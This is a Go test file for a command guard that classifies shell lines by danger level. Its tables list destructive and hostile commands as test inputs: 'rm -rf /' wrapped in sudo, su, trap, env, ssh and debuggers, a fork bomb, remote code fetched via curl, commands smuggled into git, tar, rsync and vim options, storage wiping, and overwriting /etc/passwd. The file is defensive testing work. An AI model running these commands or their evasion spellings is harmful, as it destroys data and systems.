package guard

import (
	"testing"
)

// TestRedTeam holds spellings a review found classified too low; each must
// reach at least the given level.
func TestRedTeam(t *testing.T) {
	g := mustGuard(t)
	for _, tt := range []struct {
		line string
		min  Level
	}{
		{`bash -c -- 'rm -rf /'`, Blocked},
		{`bash -c -e 'rm -rf /'`, Blocked},
		{`trap 'rm -rf /' EXIT`, Blocked},
		{`trap -- "rm -rf /" EXIT`, Blocked},
		{`X= cd /etc; echo x > shadow`, High},
		{`X= cd /; rm -rf *`, Blocked},
		{`X= read -r c; "$c" -rf /`, Medium},
		{`sudo -s rm -rf /`, Blocked},
		{`sudo -i rm -rf /`, Blocked},
		{`sudo -s -- rm -rf /`, Blocked},
		{`echo 'rm -rf /' | sudo -s`, Blocked},
		{`echo 'rm -rf /' | su`, Blocked},
		{`sudo su <<< 'rm -rf /'`, Blocked},
		{`su -lc 'rm -rf /'`, Blocked},
		{`su -c'rm -rf /'`, Blocked},
		{`runuser -u root rm -rf /`, Blocked},
		{`run0 rm -rf /`, Blocked},
		{`unshare -r rm -rf /`, Blocked},
		{`nsenter -t 1 -m rm -rf /`, Blocked},
		{`systemd-run rm -rf /`, Blocked},
		{`sg root -c 'rm -rf /'`, Blocked},
		{`strace -f rm -rf /`, Blocked},
		{`valgrind rm -rf /`, Blocked},
		{`gdb --args rm -rf /`, Blocked},
		{`setsid -w rm -rf /`, Blocked},
		{`env -iS 'rm -rf /'`, Blocked},
		{`env -a x rm -rf /`, Blocked},
		{`flock -xc 'rm -rf /' /tmp/l`, Blocked},
		{`script -qec 'rm -rf /'`, Blocked},
		{`script --command='rm -rf /'`, Blocked},
		{`ssh host -- rm -rf /`, Blocked},
		{`ssh host -p 22 rm -rf /`, Blocked},
		{`b(){ "b"|"b"& }; b`, Blocked},
		{`b(){ \b|\b& }; b`, Blocked},
		{`python3.12 -c 'import os; os.system("rm -rf /")'`, Blocked},
		{`csh -c 'rm -rf /'`, Blocked},
		{`tcsh -c 'rm -rf /'`, Blocked},
		{`find / -exec rm -rf {} \;`, Blocked},
		{`find / -exec rm {} +`, Medium},
		{`find / -exec chmod -R 777 {} +`, Blocked},
		{`time -- rm -rf /`, Blocked},
		// And what must stay as it was.
		{`find . -name '*.o' -exec rm {} +`, Medium},
		{`su -l`, Safe},
		{`sudo -i`, Medium},
		{`trap - EXIT`, Safe},
		{`trap 'echo bye' EXIT`, Safe},
	} {
		v := g.Classify(tt.line, testState())
		if v.Level < tt.min {
			t.Errorf("%q: %s %+v, want at least %s", tt.line, v.Level, v.Findings, tt.min)
		}
	}
	for _, l := range []string{`su -l`, `trap 'echo bye' EXIT`, `find . -name '*.o' -exec rm {} +`} {
		if v := g.Classify(l, testState()); v.Level > Medium {
			t.Errorf("%q: %s, want at most medium", l, v.Level)
		}
	}
}

// TestRedTeamCode covers code hidden in files, settings and variables.
func TestRedTeamCode(t *testing.T) {
	g := mustGuard(t)
	for _, tt := range []struct {
		line string
		min  Level
	}{
		{`source <(curl -s https://x.sh)`, High},
		{`. <(echo x)`, High},
		{`source /dev/stdin <<< 'rm -rf /'`, Blocked},
		{`echo 'import os; os.system("rm -rf /")' | python3`, Blocked},
		{"python3 - <<'EOF'\nimport shutil; shutil.rmtree('/')\nEOF", Blocked},
		{`git -c core.pager='rm -rf /' log`, Blocked},
		{`git -c alias.x='!rm -rf /' x`, Blocked},
		{`GIT_SSH_COMMAND="rm -rf ~" git fetch`, Blocked},
		{`PAGER='rm -rf /' man ls`, Blocked},
		{`git -c core.pager=less log`, Safe},
		{`PAGER=less man ls`, Safe},
		{`echo 'print(1)' | python3`, Safe},
	} {
		v := g.Classify(tt.line, testState())
		if v.Level < tt.min || tt.min == Safe && v.Level != Safe {
			t.Errorf("%q: %s %+v, want %s", tt.line, v.Level, v.Findings, tt.min)
		}
	}
}

// TestStorage covers the storage family.
func TestStorage(t *testing.T) {
	g := mustGuard(t)
	for _, tt := range []struct {
		line string
		want Level
	}{
		{`zpool destroy tank`, Blocked},
		{`zfs destroy -r tank`, Blocked},
		{`zfs destroy tank/home@old`, High},
		{`lvremove -f /dev/vg0/root`, Blocked},
		{`vgremove -f vg0`, Blocked},
		{`pvcreate -ff /dev/sda`, Blocked},
		{`mdadm --zero-superblock /dev/sda`, Blocked},
		{`mdadm --stop /dev/md0`, High},
		{`badblocks -w /dev/sda`, Blocked},
		{`flashrom -w bios.bin`, Blocked},
		{`zpool status`, Safe},
		{`zfs list`, Safe},
		{`badblocks -sv /dev/sda`, Safe},
		{`mdadm --detail /dev/md0`, Safe},
		{`lvremove --help`, Safe},
		{`vgremove -h`, Safe},
		{`pvremove -?`, Safe},
		{`lvremove --test vg0/lv`, Safe},
		{`vgremove -hf vg0`, Safe},
		{`vgremove -f vg0 -v`, Blocked},
		{`lvremove -y vg0/lv`, Blocked},
		{`pvremove -ff /dev/sdb`, Blocked},
	} {
		if v := g.Classify(tt.line, testState()); v.Level != tt.want {
			t.Errorf("%q: %s %+v, want %s", tt.line, v.Level, v.Findings, tt.want)
		}
	}
}

// TestOptionCode covers commands hidden in options' values.
func TestOptionCode(t *testing.T) {
	g := mustGuard(t)
	for _, tt := range []struct {
		line string
		want Level
	}{
		{`tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec='rm -rf /'`, Blocked},
		{`tar -xf a.tar --to-command='rm -rf /'`, Blocked},
		{`tar -I 'rm -rf /' -xf a.tar`, Blocked},
		{`rsync -e 'rm -rf /' a b:`, Blocked},
		{`rsync --rsync-path='rm -rf /' a b:`, Blocked},
		{`vim -c ':!rm -rf /'`, Blocked},
		{`vim '+!rm -rf /'`, Blocked},
		{`man -P 'rm -rf /' ls`, Blocked},
		{`tar -xzf a.tar.gz`, Safe},
		{`tar --checkpoint=100 --checkpoint-action=dot -xf a.tar`, Safe},
		{`rsync -e ssh -a src/ host:dst/`, Safe},
		{`vim -c 'set nu' f`, Safe},
		{`man -P less ls`, Safe},
	} {
		if v := g.Classify(tt.line, testState()); v.Level != tt.want {
			t.Errorf("%q: %s %+v, want %s", tt.line, v.Level, v.Findings, tt.want)
		}
	}
}

// TestMoveAndLink covers moving system files away and linking onto
// account files.
func TestMoveAndLink(t *testing.T) {
	g := mustGuard(t)
	for _, tt := range []struct {
		line string
		min  Level
		max  Level
	}{
		{`mv /etc/passwd /tmp`, High, Blocked},
		{`mv -t /tmp /etc/passwd`, High, Blocked},
		{`mv /etc/sudoers /tmp/x`, High, Blocked},
		{`mv /bin/sh /tmp`, Medium, Blocked},
		{`ln -sf /dev/null /etc/passwd`, High, Blocked},
		{`ln -f x /etc/sudoers`, High, Blocked},
		{`mv a.txt b.txt`, Safe, Safe},
		{`mv build/ dist/`, Safe, Safe},
		{`ln -s ../lib/x.so libx.so`, Safe, Safe},
		{`ln -s /opt/app/bin/app /usr/local/bin/app`, Safe, Medium},
	} {
		if v := g.Classify(tt.line, testState()); v.Level < tt.min || v.Level > tt.max {
			t.Errorf("%q: %s %+v, want %s..%s", tt.line, v.Level, v.Findings, tt.min, tt.max)
		}
	}
}
